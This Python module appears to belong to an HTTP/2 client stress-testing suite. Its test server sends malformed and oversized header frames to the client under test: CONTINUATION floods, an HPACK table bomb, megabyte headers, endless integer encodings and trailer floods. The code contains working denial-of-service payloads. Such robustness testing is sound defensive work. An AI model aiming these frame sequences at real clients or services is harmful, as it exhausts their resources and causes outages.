"""Headers and trailers that are too many, too large or malformed."""

from __future__ import annotations

from stress.attacks.registry import FRAME_SIZE, attack, tolerated
from stress.hostile_server import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    OK_TRAILERS,
    RESPONSE,
    Victim,
    frame,
    header,
    integer,
)


@attack
def continuation_without_end(victim: Victim) -> None:
    victim.settings()
    stream = victim.request()
    victim.listen()
    victim.send(frame(HEADERS, 0, stream, RESPONSE))
    victim.repeat(frame(CONTINUATION, 0, stream, header(b"x", b"y" * 100)))


@attack
def empty_continuations(victim: Victim) -> None:
    victim.settings()
    stream = victim.request()
    victim.listen()
    victim.send(frame(HEADERS, 0, stream, RESPONSE))
    victim.repeat(frame(CONTINUATION, 0, stream))


@attack
def header_bomb(victim: Victim) -> None:
    """One header of 4 KB, entered into the client's table, and then named by one byte each."""
    victim.settings()
    stream = victim.request()
    victim.listen()
    entered = header(b"x", b"y" * 4000, 0x40)
    victim.repeat(frame(HEADERS, END_HEADERS, stream, RESPONSE + entered + b"\xbe" * 12_000))


@attack
def header_of_a_megabyte(victim: Victim) -> None:
    victim.settings()
    stream = victim.request()
    victim.listen()
    block = RESPONSE + header(b"x", b"y" * (1 << 20))
    pieces = [block[start : start + FRAME_SIZE] for start in range(0, len(block), FRAME_SIZE)]
    frames = [frame(CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
    frames.append(frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))
    victim.repeat(frame(HEADERS, 0, stream, pieces[0]) + b"".join(frames))


@attack
def endless_integer(victim: Victim) -> None:
    victim.settings()
    stream = victim.request()
    victim.listen()
    victim.repeat(frame(HEADERS, END_HEADERS, stream, b"\x7f" + b"\xff" * 1000))


@attack
def length_beyond_the_block(victim: Victim) -> None:
    victim.settings()
    stream = victim.request()
    victim.listen()
    victim.repeat(frame(HEADERS, END_HEADERS, stream, b"\x00" + integer(1 << 30, 7) + b"x"))


@tolerated
def informational_flood(victim: Victim) -> None:
    victim.settings()
    stream = victim.request()
    victim.listen()
    victim.repeat(frame(HEADERS, END_HEADERS, stream, header(b":status", b"103") + header(b"x", b"y" * 100)))


@attack
def endless_trailers(victim: Victim) -> None:
    stream = victim.begun()
    victim.repeat(frame(HEADERS, END_HEADERS, stream, OK_TRAILERS))


@attack
def trailers_without_end(victim: Victim) -> None:
    stream = victim.begun()
    victim.send(frame(HEADERS, END_STREAM, stream, OK_TRAILERS))
    victim.repeat(frame(CONTINUATION, 0, stream, header(b"x", b"y" * 100)))


@attack
def large_trailers(victim: Victim) -> None:
    stream = victim.begun()
    block = OK_TRAILERS + header(b"x", b"y" * 1000) * 15
    pieces = [frame(CONTINUATION, 0, stream, header(b"x", b"y" * 1000) * 15) for _ in range(10)]
    pieces.append(frame(CONTINUATION, END_HEADERS, stream, b""))
    victim.send(frame(HEADERS, END_STREAM, stream, block), *pieces)
    victim.hold()
